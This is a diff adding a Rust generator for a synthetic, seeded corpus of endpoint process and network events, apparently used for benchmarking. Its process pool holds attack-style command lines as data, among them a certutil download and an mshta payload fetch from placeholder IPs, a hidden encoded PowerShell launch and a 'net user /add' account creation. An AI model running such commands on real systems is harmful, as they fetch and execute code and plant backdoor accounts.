@@ -0,0 +1,169 @@
+//! Generates the synthetic benchmark corpus.
+//!
+//! The corpus is made up of process and network events that are shaped like those produced by an
+//! endpoint agent, but every value is drawn from the pools below using a fixed seed, so that the
+//! corpus contains no real data and is identical on every machine.
+use std::fmt::Write;
+
+// The number of documents in the corpus.
+const DOCUMENTS: usize = 1000;
+
+// The seed for the generator, changing it changes the corpus.
+const SEED: u64 = 0x7a75_2d65_6e67_696e;
+
+const HOSTS: &[&str] = &["ws-0142", "ws-0173", "ws-0208", "srv-dc01", "srv-web02"];
+
+const USERS: &[&str] = &[
+    "alice",
+    "bob",
+    "carol",
+    "svc_backup",
+    "SYSTEM",
+    "LOCAL SERVICE",
+    "NETWORK SERVICE",
+];
+
+const PARENTS: &[&str] = &[
+    "explorer.exe",
+    "services.exe",
+    "svchost.exe",
+    "cmd.exe",
+    "WINWORD.EXE",
+    "EXCEL.EXE",
+    "wmiprvse.exe",
+    "taskeng.exe",
+];
+
+const DIRECTORIES: &[&str] = &[
+    r"C:\Windows\System32",
+    r"C:\Windows\SysWOW64",
+    r"C:\Program Files\Google\Chrome\Application",
+    r"C:\Users\alice\AppData\Local\Temp",
+    r"C:\Users\Public",
+    r"C:\ProgramData",
+    r"C:\ProgramData\Microsoft\Windows Defender",
+];
+
+// The processes and the arguments that they are launched with.
+const PROCESSES: &[(&str, &[&str])] = &[
+    ("chrome.exe", &["--type=renderer", "--type=gpu-process", ""]),
+    (
+        "cmd.exe",
+        &["/c dir", "/q /c echo %USERNAME%", "/c ping 127.0.0.1"],
+    ),
+    (
+        "certutil.exe",
+        &[
+            "-hashfile setup.exe SHA256",
+            "-urlcache -split -f http://198.51.100.7/a.exe a.exe",
+        ],
+    ),
+    ("ipconfig.exe", &["/all", ""]),
+    ("mshta.exe", &["http://203.0.113.20/payload.hta", ""]),
+    (
+        "net.exe",
+        &[
+            "user",
+            "user backup Winter2024! /add",
+            "localgroup administrators",
+        ],
+    ),
+    (
+        "powershell.exe",
+        &[
+            "-nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA",
+            "-ExecutionPolicy Bypass -File update.ps1",
+            "Get-Process",
+        ],
+    ),
+    ("rundll32.exe", &["shell32.dll,Control_RunDLL", ""]),
+    ("svchost.exe", &["-k netsvcs -p", "-k LocalService"]),
+    ("whoami.exe", &["/all", "/priv", ""]),
+];
+
+const PROTOCOLS: &[&str] = &["tcp", "udp", "icmp"];
+
+const PORTS: &[u64] = &[22, 53, 80, 443, 445, 3389, 4444, 6667, 8443, 31337];
+
+// A xorshift generator, which is plenty for picking values and has no dependencies.
+struct Rng(u64);
+
+impl Rng {
+    fn next(&mut self) -> u64 {
+        self.0 ^= self.0 << 13;
+        self.0 ^= self.0 >> 7;
+        self.0 ^= self.0 << 17;
+        self.0
+    }
+
+    fn below(&mut self, n: u64) -> u64 {
+        self.next() % n
+    }
+
+    fn pick<'a, T>(&mut self, values: &'a [T]) -> &'a T {
+        &values[self.below(values.len() as u64) as usize]
+    }
+}
+
+/// Returns the corpus as a YAML sequence of documents.
+pub fn generate() -> String {
+    let mut rng = Rng(SEED);
+    let mut out = String::from(
+        "# Synthetic benchmark corpus, generated by `cargo xtask corpus`, do not edit.\n",
+    );
+    for _ in 0..DOCUMENTS {
+        let host = rng.pick(HOSTS);
+        let user = rng.pick(USERS);
+        // NOTE: Roughly two thirds of the events are process events.
+        if rng.below(3) != 0 {
+            let (name, args) = rng.pick(PROCESSES);
+            let args = rng.pick(args);
+            let directory = rng.pick(DIRECTORIES);
+            let pid = rng.below(65536);
+            let parent = rng.pick(PARENTS);
+            let _ = write!(
+                out,
+                "- host: {}\n  user: {}\n  process:\n    name: {}\n    args: {}\n    path: {}\n    pid: {}\n  parent:\n    name: {}\n",
+                quote(host),
+                quote(user),
+                quote(name),
+                quote(args),
+                quote(&format!(r"{}\{}", directory, name)),
+                pid,
+                quote(parent),
+            );
+        } else {
+            let port = if rng.below(4) == 0 {
+                1024 + rng.below(64512)
+            } else {
+                *rng.pick(PORTS)
+            };
+            let ip = if rng.below(2) == 0 {
+                format!("10.0.{}.{}", rng.below(256), rng.below(256))
+            } else {
+                format!("203.0.113.{}", rng.below(256))
+            };
+            let source = 1024 + rng.below(64512);
+            // NOTE: The size is picked on a log scale so that most transfers are small.
+            let magnitude = rng.below(24);
+            let bytes = rng.below(1 << magnitude);
+            let protocol = rng.pick(PROTOCOLS);
+            let _ = write!(
+                out,
+                "- host: {}\n  user: {}\n  destination:\n    ip: {}\n    port: {}\n  source:\n    port: {}\n  network:\n    bytes: {}\n    protocol: {}\n",
+                quote(host),
+                quote(user),
+                quote(&ip),
+                port,
+                source,
+                bytes,
+                quote(protocol),
+            );
+        }
+    }
+    out
+}
+
+fn quote(s: &str) -> String {
+    format!("'{}'", s.replace('\'', "''"))
+}